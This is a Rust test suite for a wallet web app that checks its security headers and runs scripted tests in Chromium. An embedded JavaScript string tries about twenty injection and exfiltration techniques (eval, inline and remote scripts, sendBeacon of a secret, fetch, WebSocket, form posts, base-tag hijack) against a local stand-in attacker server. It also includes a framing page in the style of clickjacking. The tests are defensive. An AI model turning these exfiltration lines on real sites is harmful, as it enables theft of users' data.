//! Goal: nothing runs in the page but what its node serves, nothing is sent anywhere else, and no page of
//! somebody else's has it in a frame; and what the app does itself breaks no rule of that policy.
//! Method: the headers of every file and of every kind of answer; in Chromium everything that an injected
//! line could try, with a stranger who counts his visitors; then a walk through the app.

use std::{
    collections::BTreeSet,
    sync::{Arc, Mutex, PoisonError},
};

use anyhow::ensure;
use harness::{
    Api, Browser, Net, PATIENCE, Purse, Wishes, page::Form, purse::DEV_WORDS, until, with_browsers,
};
use reqwest::Response;
use serde_json::json;
use tokio::{
    io::{AsyncReadExt as _, AsyncWriteExt as _},
    net::TcpListener,
    task::JoinHandle,
};

/// Somebody else's server: serves one page, and remembers who asked for what.
struct Stranger {
    port: u16,
    visits: Arc<Mutex<Vec<String>>>,
    task: JoinHandle<()>,
}

impl Stranger {
    async fn with_page(page: String) -> Self {
        let listener = TcpListener::bind("127.0.0.1:0").await.unwrap();
        let port = listener.local_addr().unwrap().port();
        let visits = Arc::new(Mutex::new(Vec::new()));
        let seen = Arc::clone(&visits);
        let task = tokio::spawn(async move {
            while let Ok((mut guest, _)) = listener.accept().await {
                let mut request = vec![0; 4_096];
                let count = guest.read(&mut request).await.unwrap_or(0);
                let line = String::from_utf8_lossy(&request[..count]);
                let line = line.lines().next().unwrap_or_default().to_owned();
                seen.lock().unwrap_or_else(PoisonError::into_inner).push(line);
                let head =
                    "HTTP/1.1 200 OK\r\ncontent-type: text/html\r\naccess-control-allow-origin: *";
                let answer = format!(
                    "{head}\r\ncontent-length: {}\r\nconnection: close\r\n\r\n{page}",
                    page.len()
                );
                // A guest that is gone already hears nothing.
                let _ = guest.write_all(answer.as_bytes()).await;
            }
        });
        Self { port, visits, task }
    }

    fn url(&self) -> String {
        format!("http://127.0.0.1:{}", self.port)
    }

    fn visits(&self) -> Vec<String> {
        self.visits.lock().unwrap_or_else(PoisonError::into_inner).clone()
    }
}

impl Drop for Stranger {
    fn drop(&mut self) {
        self.task.abort();
    }
}

#[track_caller]
fn has_the_headers(what: &str, response: &Response) {
    let value = |name: &str| {
        let values: Vec<_> = response.headers().get_all(name).iter().collect();
        assert_eq!(values.len(), 1, "{what}: {name} is there {} times", values.len());
        values[0].to_str().unwrap().to_owned()
    };
    let policy = value("content-security-policy");
    let directives: BTreeSet<&str> = policy.split(';').map(str::trim).collect();
    for directive in [
        "default-src 'none'",
        "worker-src 'self'",
        "connect-src 'self'",
        "img-src 'self' data:",
        "style-src 'self'",
        "base-uri 'none'",
        "form-action 'none'",
        "frame-ancestors 'none'",
    ] {
        assert!(directives.contains(directive), "{what}: {directive} is missing in {policy}");
    }
    let scripts = directives.iter().find(|directive| directive.starts_with("script-src ")).unwrap();
    // One inline script, known by its hash, starts the app.
    for source in scripts.split(' ').skip(1) {
        let known =
            ["'self'", "'wasm-unsafe-eval'"].contains(&source) || source.starts_with("'sha256-");
        assert!(known, "{what}: scripts from {source}");
    }
    assert!(!policy.contains("'unsafe-inline'") && !policy.contains("'unsafe-eval'"), "{policy}");
    assert!(!policy.contains('*') && !policy.contains("http"), "{what}: {policy}");
    assert_eq!(value("x-frame-options"), "DENY", "{what}");
    assert_eq!(value("x-content-type-options"), "nosniff", "{what}");
    assert_eq!(value("referrer-policy"), "no-referrer", "{what}");
    assert_eq!(value("cross-origin-resource-policy"), "same-origin", "{what}");
    assert_eq!(value("cross-origin-opener-policy"), "same-origin", "{what}");
}

#[tokio::test]
async fn every_answer_of_both_listeners_has_the_policy() {
    let net = Net::start(["alpha"]).await;
    let alpha = &net["alpha"];
    let hashes = alpha.api().raw("/app-hashes").await.unwrap().text().await.unwrap();
    let files: Vec<String> =
        hashes.lines().map(|line| format!("/{}", line.rsplit(' ').next().unwrap())).collect();
    for end in [".wasm", ".js", ".css", "vault_loader.js", "miner_bg.wasm", "index.html"] {
        assert!(files.iter().any(|file| file.ends_with(end)), "no {end} among {files:?}");
    }
    let admin = Api::new(&format!("http://127.0.0.1:{}", alpha.ports().admin));
    let others = [
        "/",
        "/send",
        "/block/1",
        "/no/such/page",
        "/api/v1/status",
        "/api/v1/nothing",
        "/api/v1/blocks/0/raw",
        "/api/v1/blocks/nonsense",
        "/api/v1/events",
        "/app-hashes",
        "/healthz",
        "/readyz",
        "/metrics",
        "/admin/v1/peers",
        "/p2p/v1/nothing",
    ];
    let paths = files.iter().map(String::as_str).chain(others);
    for path in paths {
        for (listener, api) in [("public", alpha.api()), ("admin", &admin)] {
            has_the_headers(&format!("{path} ({listener})"), &api.raw(path).await.unwrap());
        }
    }
}

/// What an injected line could try, each noted when it worked; run by the page itself, because what the
/// driver runs is above the policy.
const ATTACKS: &str = "
    const [thief, done] = arguments;
    window.attacked = [];
    window.stopped = [];
    document.addEventListener('securitypolicyviolation', (event) => window.stopped.push(event.effectiveDirective));
    const works = (name) => window.attacked.push(name);
    const put = (tag, fields) => document.body.append(Object.assign(document.createElement(tag), fields));
    const tries = {
      eval: () => eval('1') && works('eval'),
      function: () => new Function('return 1')() && works('function'),
      timer: () => setTimeout('window.attacked.push(\"timer\")'),
      inline: () => put('script', { textContent: 'window.attacked.push(\"inline\")' }),
      handler: () => { const one = document.createElement('div'); one.setAttribute('onclick', 'window.attacked.push(\"handler\")'); document.body.append(one); one.click(); },
      link: () => { const one = document.createElement('a'); one.href = 'javascript:window.attacked.push(\"link\")'; document.body.append(one); one.click(); },
      style: () => { put('style', { textContent: 'h1 { outline: 7px solid }' }); getComputedStyle(document.querySelector('h1')).outlineWidth === '7px' && works('style'); },
      remote: () => put('script', { src: thief + '/script' }),
      blob: () => put('script', { src: URL.createObjectURL(new Blob(['window.attacked.push(\"blob\")'])) }),
      fetch: () => fetch(thief + '/fetch', { mode: 'no-cors' }).then(() => works('fetch'), () => {}),
      beacon: () => navigator.sendBeacon(thief + '/beacon', 'secret'),
      socket: () => new WebSocket(thief.replace('http', 'ws') + '/socket'),
      events: () => new EventSource(thief + '/events'),
      image: () => put('img', { src: thief + '/image' }),
      frame: () => put('iframe', { src: thief + '/frame' }),
      object: () => put('object', { data: thief + '/object' }),
      sheet: () => put('link', { rel: 'stylesheet', href: thief + '/sheet' }),
      form: () => { const one = document.createElement('form'); one.action = thief + '/form'; one.method = 'post'; document.body.append(one); one.submit(); },
      base: () => { put('base', { href: thief + '/' }); document.baseURI.startsWith(thief) && works('base'); },
      worker: () => { new Worker(URL.createObjectURL(new Blob(['postMessage(1)']))).onmessage = () => works('worker'); },
      manifest: () => put('link', { rel: 'manifest', href: thief + '/manifest' }),
    };
    const names = Object.keys(tries);
    const next = () => {
      const name = names.shift();
      if (!name) return done(Object.keys(tries).length);
      // What is refused at once throws.
      try { tries[name](); } catch {}
      requestAnimationFrame(next);
    };
    requestAnimationFrame(next);";

#[tokio::test]
async fn nothing_that_is_put_into_the_page_runs_or_reaches_anybody() {
    let net = Net::start(["alpha"]).await;
    let thief = Stranger::with_page("window.attacked.push('remote')".to_owned()).await;
    with_browsers(async |browsers| {
        let ada = browsers.open("ada", &net["alpha"]).await;
        ada.allow_in_console("Content Security Policy");
        ada.sees("Create wallet").await;
        let tried = ada.driver().execute_async(ATTACKS, vec![json!(thief.url())]).await.unwrap();
        assert_eq!(tried.json(), &json!(21));
        // Each directive has stopped something, so the attempts were real.
        until("every attempt to be stopped", PATIENCE, async || {
            let stopped: Vec<String> =
                serde_json::from_value(ada.ask("return window.stopped;", &[]).await?)?;
            for directive in [
                "script-src",
                "script-src-elem",
                "script-src-attr",
                "style-src-elem",
                "connect-src",
                "img-src",
                "frame-src",
                "object-src",
                "form-action",
                "base-uri",
                "worker-src",
            ] {
                ensure!(
                    stopped.iter().any(|one| one == directive),
                    "{directive} is not among {stopped:?}"
                );
            }
            Ok(())
        })
        .await;
        assert_eq!(ada.ask("return window.attacked;", &[]).await.unwrap(), json!([]));
        assert_eq!(thief.visits(), Vec::<String>::new());
        // A stranger who is asked for on purpose does count.
        ada.driver().goto(thief.url()).await.unwrap();
        assert!(!thief.visits().is_empty());
    })
    .await;
}

#[tokio::test]
async fn no_other_page_has_the_app_in_a_frame() {
    let net = Net::start(["alpha"]).await;
    let page = format!("<h1>Win a prize</h1><iframe src=\"{}/\"></iframe>", net["alpha"].url());
    let stranger = Stranger::with_page(page).await;
    with_browsers(async |browsers| {
        let ada = browsers.open_with("ada", &stranger.url(), Wishes::default()).await;
        ada.allow_in_console("frame-ancestors");
        ada.allow_in_console("X-Frame-Options");
        ada.allow_in_console("ERR_BLOCKED_BY_RESPONSE");
        ada.sees("Win a prize").await;
        until("the browser to say that it blocks the frame", PATIENCE, async || {
            let console = ada.console().await;
            let blocked = console
                .iter()
                .any(|line| line.contains("frame-ancestors") || line.contains("X-Frame-Options"));
            ensure!(blocked, "the console says {console:?}");
            Ok(())
        })
        .await;
        ada.driver().enter_frame(0).await.unwrap();
        let inside = ada
            .ask("return [location.href, document.querySelectorAll('#boot, main').length];", &[])
            .await;
        let inside = inside.unwrap();
        assert_eq!(inside[1], json!(0), "the frame shows {inside}");
    })
    .await;
}

/// Keeps every breach of the policy, from before the page's own first line on and over reloads.
const WATCH: &str = "
    document.addEventListener('securitypolicyviolation', (event) => {
      const before = JSON.parse(sessionStorage.getItem('breaches') ?? '[]');
      before.push(`${event.effectiveDirective} ${event.blockedURI} ${event.sourceFile}:${event.lineNumber}`);
      sessionStorage.setItem('breaches', JSON.stringify(before));
    });";

#[tokio::test]
async fn what_the_app_does_breaks_no_rule_of_its_policy() {
    let net = Net::start(["alpha"]).await;
    let bob = Purse::funded(net["alpha"].chain(), 1).address();
    with_browsers(async |browsers| {
        let ada = browsers.open("ada", &net["alpha"]).await;
        ada.prepare(WATCH).await;
        ada.reload().await;
        ada.restore_from_words(DEV_WORDS, "a passphrase").await;
        ada.mine_blocks(1).await;
        ada.send(Form { recipient: &bob, amount: "1", fee: Some("0"), memo: Some("hello") }).await;
        for page in ["Receive", "History", "Explorer", "Network", "Settings", "Overview"] {
            ada.visit(page).await;
            ada.is_told("heading", page, PATIENCE).await;
        }
        let _ = ada.save_keystore_file().await;
        ada.reload().await;
        ada.visit("Overview").await;
        ada.unlock("a passphrase").await;
        assert_eq!(breaches(&ada).await, json!([]));
        // No threads share memory, so no page needs to be isolated for it, and none claims to be.
        assert_eq!(ada.ask("return crossOriginIsolated;", &[]).await.unwrap(), json!(false));
        // What watches is not blind.
        ada.allow_in_console("Content Security Policy");
        ada.ask(
            "const one = new Image(); one.src = 'http://127.0.0.1:1/'; document.body.append(one);",
            &[],
        )
        .await
        .unwrap();
        until("a breach to be seen", PATIENCE, async || {
            ensure!(breaches(&ada).await != json!([]), "it is not");
            Ok(())
        })
        .await;
    })
    .await;
}

async fn breaches(browser: &Browser) -> serde_json::Value {
    let script = "return JSON.parse(sessionStorage.getItem('breaches') ?? '[]');";
    browser.ask(script, &[]).await.unwrap()
}
